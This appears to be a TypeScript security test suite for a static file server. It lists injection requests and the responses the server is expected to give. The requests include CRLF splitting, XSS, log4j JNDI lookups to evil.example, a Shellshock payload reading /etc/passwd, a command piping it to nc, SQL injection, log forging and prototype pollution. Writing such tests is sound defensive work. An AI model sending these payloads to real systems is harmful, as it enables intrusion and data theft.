// Text that wants to become something else on its way: a field, a log line, markup, a property.

import { get, request } from "../integration/requests.ts";
import { ABSENT, type Attack, attacks, BROKEN, SERVED, type Verdict } from "./attack.ts";

const CONTROL: Verdict = { status: 400, event: "protocol", after: "open" };
const REFUSED: Verdict = { status: 403, event: "traversal", after: "open" };

const RESPONSES = [
  ...attacks(CONTROL, [
    ["CRLF in a target (response splitting)", get("/%0d%0aX-Injected:%20yes")],
    ["CRLF behind a file", get("/ten.bin%0d%0aX-Injected:%20yes")],
    ["CRLF behind a folder, for Location", get("/sub%0d%0aX-Injected:%20yes")],
    ["LF in a target", get("/sub%0aX-Injected:%20yes")],
    ["CR in a target", get("/sub%0dX-Injected:%20yes")],
    ["a tab in a target", get("/sub%09")],
    ["a line end of eight bits (NEL)", get("/sub%c2%85X-Injected:%20yes")],
  ]),
  ...attacks(REFUSED, [
    ["CRLF encoded twice", get("/sub%250d%250aX-Injected%3a%20yes")],
  ]),
  ...attacks(BROKEN, [
    ["raw CR in a target", get("/sub\rX-Injected: yes")],
    ["raw LF in a target", get("/sub\nX-Injected: yes")],
    ["a NUL in a field", get("/ten.bin", "X: a\x00b")],
    ["an escape sequence in a field", get("/ten.bin", "User-Agent: \x1b[2J")],
  ]),
  ...attacks(ABSENT, [
    ["characters whose low bytes are CRLF", get("/%E5%98%8A%E5%98%8DX-Injected")],
    ["a line separator of Unicode", get("/%e2%80%a8X-Injected")],
  ]),
  ...attacks({ ...SERVED, status: 301, fields: { location: "/sub/?%0d%0aX-Injected:%20yes" } }, [
    ["CRLF in a query, for Location", get("/sub?%0d%0aX-Injected:%20yes")],
  ]),
  ...attacks({
    ...SERVED,
    fields: {
      "content-disposition": 'attachment; filename="quote_; filename=_evil.html.txt"; ' +
        "filename*=UTF-8''quote%22%3B%20filename%3D%22evil.html.txt",
    },
  }, [
    [
      "a quote in a file name, for Content-Disposition",
      get("/quote%22%3b%20filename=%22evil.html.txt"),
    ],
  ]),
  ...attacks({
    ...SERVED,
    fields: {
      "content-disposition": 'attachment; filename="caf__.txt"; ' +
        "filename*=UTF-8''caf%C3%A9%E2%80%AE.txt",
    },
  }, [
    ["a name that is shown backwards, for Content-Disposition", get("/caf%c3%a9%e2%80%ae.txt")],
  ]),
];

const MARKUP = [
  ...attacks({ ...ABSENT, fields: { "content-type": "text/plain; charset=utf-8" } }, [
    ["markup in a name that is not there", get("/<script>alert(1)<script>")],
    ["encoded markup in a name that is not there", get("/%3Cimg%20src=x%20onerror=alert(2)%3E")],
    ["a template in a name", get("/{{7*7}}")],
  ]),
  ...attacks({
    ...SERVED,
    status: 301,
    fields: { location: "/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E/" },
  }, [
    [
      "a listing's markup by folder name (expressjs/serve-index#28)",
      get("/%3Cimg%20src=x%20onerror=alert(1)%3E"),
    ],
  ]),
  ...attacks(REFUSED, [
    [
      "markup with a slash in it (vertx-web CVE-2025-11966)",
      get("/%3Cscript%3Ealert(1)%3C%2fscript%3E"),
    ],
    ["a script URL", get("/javascript:alert(1)")],
    ["a lookup in a target (CVE-2021-44228 log4j)", get("/${jndi:ldap:%2f%2fevil.example%2fa}")],
  ]),
  ...attacks(SERVED, [
    [
      "a lookup in a field (CVE-2021-44228 log4j)",
      get("/ten.bin", "User-Agent: ${jndi:ldap://evil.example/a}"),
    ],
    [
      "a function in a field (CVE-2014-6271 Shellshock)",
      get("/ten.bin", "User-Agent: () { :;}; /bin/cat /etc/passwd"),
    ],
    ["a proxy for scripts (CVE-2016-5385 httpoxy)", get("/ten.bin", "Proxy: http://evil.example/")],
    ["SQL in a query", get("/ten.bin?id=1'%20or%20'1'='1")],
    ["a command in a query", get("/ten.bin?cmd=;cat%20/etc/passwd|nc")],
    ["a script in a query (CVE-2012-1823 PHP)", get("/ten.bin?-d+allow_url_include%3don+-s")],
  ]),
  ...attacks({ status: 405, event: "none", after: "open", fields: { "x-injected": false } }, [
    ["an echo of the request (XST, TRACE)", request("TRACE", "/ten.bin", "X-Injected: yes")],
  ]),
];

const LOGS = [
  ...attacks(CONTROL, [
    ["a forged line of the log (dufs#691)", get("/%0a2026-01-01T00:00:00.000Z%20INFO%20FORGED")],
    ["a terminal's escape for the log (dufs#691)", get("/%1b[2J%1b]0;FORGED%07")],
    ["an escape of eight bits for the log", get("/%c2%9b2J")],
    ["a backspace for the log", get("/%08%08%08FORGED")],
  ]),
  ...attacks(BROKEN, [
    ["a raw escape for the log", get("/\x1b[2JFORGED")],
  ]),
  ...attacks(ABSENT, [
    ["a field of the log, forged", get("/a%20client=203.0.113.66%20rule=none")],
    ["a quote for the log", get('/"%20status=200%20x="')],
  ]),
];

const PROPERTIES = [
  ...attacks(ABSENT, [
    ["the prototype as a name", get("/__proto__")],
    ["the constructor as a name", get("/constructor")],
    ["a method of every object as a name", get("/toString/hasOwnProperty")],
  ]),
  ...attacks({ ...SERVED, fields: { "content-type": "application/octet-stream" } }, [
    ["the prototype as an extension", get("/odd.__proto__")],
    ["the constructor as an extension", get("/odd.constructor")],
  ]),
  ...attacks(SERVED, [
    ["the prototype as a field", get("/ten.bin", "__proto__: x", "constructor: y")],
    [
      "the prototype as a coding",
      get("/ten.bin", "Accept-Encoding: __proto__, constructor, toString"),
    ],
    ["the prototype in a query", get("/ten.bin?__proto__[admin]=1&constructor.prototype.x=1")],
  ]),
  ...attacks({ status: 501, event: "protocol", after: "open" }, [
    ["the prototype as a method", request("__proto__", "/ten.bin")],
    ["the constructor as a method", request("constructor", "/ten.bin")],
    ["a method in small letters", request("get", "/ten.bin")],
  ]),
];

/** Everything about text that changes its meaning. */
export const INJECTION: readonly Attack[] = [...RESPONSES, ...MARKUP, ...LOGS, ...PROPERTIES];
